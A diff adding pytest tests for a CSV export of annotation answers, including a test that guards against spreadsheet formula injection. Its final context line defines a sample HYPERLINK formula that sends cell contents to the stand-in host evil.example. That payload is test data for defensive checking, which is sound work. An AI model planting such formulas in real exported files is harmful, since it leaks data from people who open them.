@@ -205,6 +205,36 @@ class TestWriteRelations:
         assert data.count(b"\r\n") == 1
 
 
+def answers_of(records):
+    return rows_of(b"".join(csv_format.write(records, table="answers")))
+
+
+class TestWriteAnswers:
+    def test_one_row_per_answer_a_multi_value_joined_with_a_bar(self):
+        rows = answers_of(export_records())
+        assert list(rows[0]) == [
+            "document_id", "external_id", "title", "source", "annotator", "question", "value", "review_status",
+        ]  # fmt: skip
+        assert [(row["document_id"], row["annotator"], row["question"], row["value"], row["review_status"])
+                for row in rows] == [
+            ("7", "alice", "Primary frame", "Political", "accepted"),
+            ("7", "alice", "Slant", "-1", "pending"),
+            ("7", "bob", "Frames", "Economic|Political", "rejected"),
+            ("7", "bob", "Slant", "2", "pending"),
+            ("8", "alice", "Primary frame", "Legality", "pending"),
+            ("8", "", "Primary frame", "Economic", ""),
+        ]  # fmt: skip
+
+    def test_an_option_that_would_run_as_a_formula_is_guarded(self):
+        record = {"id": 3, "text": "abc", "answers": [{"question": "=Q", "value": ["=1+1", "b"], "annotator": "@a"}]}
+        [row] = answers_of([record])
+        assert (row["question"], row["value"], row["annotator"]) == ("'=Q", "'=1+1|b", "'@a")
+
+    def test_no_answers_is_the_header_alone(self):
+        data = b"".join(csv_format.write([{"id": 1, "text": "abc"}], table="answers"))
+        assert data == "\ufeffdocument_id,external_id,title,source,annotator,question,value,review_status\r\n".encode()
+
+
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
 
